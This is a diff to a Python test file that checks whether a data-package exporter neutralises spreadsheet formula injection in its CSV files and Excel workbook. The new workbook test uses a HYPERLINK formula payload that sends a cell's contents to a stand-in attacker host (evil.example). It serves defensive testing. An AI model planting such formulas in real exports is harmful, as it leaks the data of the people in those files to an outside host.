@@ -1,8 +1,9 @@
-"""Formula injection (OWASP "CSV Injection"): no cell of a package's CSV files starts a formula.
+"""Formula injection (OWASP "CSV Injection"): no cell of a package's CSV files or workbook starts
+a formula.
 
 Text starting with =, +, -, @, tab or carriage return gets a single quote in front, wherever it
-stands (a field, a nested field, a list, a record id, a column name); real numbers stay numbers;
-data.json keeps the values exactly as the system gave them.
+stands (a field, a nested field, a list, a list's own file, a record id, a column name); real
+numbers stay numbers; data.json keeps the values exactly as the system gave them.
 """
 
 from __future__ import annotations
@@ -14,6 +15,7 @@ import zipfile
 from datetime import UTC, datetime
 from pathlib import Path
 
+import openpyxl
 import pytest
 
 from bridge.core.models import DataPackage, Record, SourceResult, Status, Subject
@@ -36,7 +38,7 @@ def _package(records: list[Record]) -> DataPackage:
 def _rows(tmp_path: Path, records: list[Record], name: str) -> tuple[list[dict[str, str]], dict]:
     path = write_package(_package(records), tmp_path / "out", pseudonym=PSEUDONYM)
     with zipfile.ZipFile(path) as archive:
-        text = archive.read(f"csv/{name}.csv").decode("utf-8")
+        text = archive.read(f"csv/shop/{name}.csv").decode("utf-8-sig")
         data = json.loads(archive.read("data.json"))
     return list(csv.DictReader(io.StringIO(text, newline=""))), data
 
@@ -60,9 +62,12 @@ def test_every_leading_character_is_neutralised_in_the_package(tmp_path: Path, s
             "tags": [f"{start}vip", "nieuwsbrief"],
             f"{start}field": "plain",
             "total": "59.95",
+            "lines": [{"name": payload}],
         },
     )
     rows, data = _rows(tmp_path, [record], "order")
+    (line,), _ = _rows(tmp_path / "again", [record], "order-lines")
+    assert line["name"] == f"'{payload}" and line["id"] == f"'{start}1042"
     (row,) = rows
     assert row["note"] == f"'{payload}"
     assert row["billing.city"] == f"'{start}Zwolle"
@@ -105,3 +110,28 @@ def test_sheet_cell_keeps_empty_and_plain_values() -> None:
     assert sheet_cell("Zwolle") == "Zwolle"
     assert sheet_cell(-5) == "-5" and sheet_cell("-5") == "'-5"
     assert sheet_cell(False) == "false"
+
+
+@pytest.mark.parametrize("start", STARTS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
+def test_no_workbook_cell_is_a_formula(tmp_path: Path, start: str) -> None:
+    payload = f'{start}HYPERLINK("http://evil.example/?x="&A1,"klik")'
+    record = Record(
+        type="order",
+        id=f"{start}1042",
+        matched_by=["email"],
+        data={"note": payload, f"{start}field": 1, "lines": [{"name": payload}]},
+    )
+    path = write_package(_package([record]), tmp_path / "out", pseudonym=PSEUDONYM)
+    with zipfile.ZipFile(path) as archive:
+        book = openpyxl.load_workbook(io.BytesIO(archive.read("data.xlsx")))
+    texts = [
+        cell
+        for sheet in book.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if isinstance(cell.value, str)
+    ]
+    assert all(cell.data_type != "f" for cell in texts)
+    assert all(not cell.value.startswith(tuple(STARTS)) for cell in texts)
+    quoted = [c.value for c in texts if c.value.startswith("'") and "HYPERLINK" in c.value]
+    assert len(quoted) == 2  # the record's note and its line's name (XML reads a CR as LF)
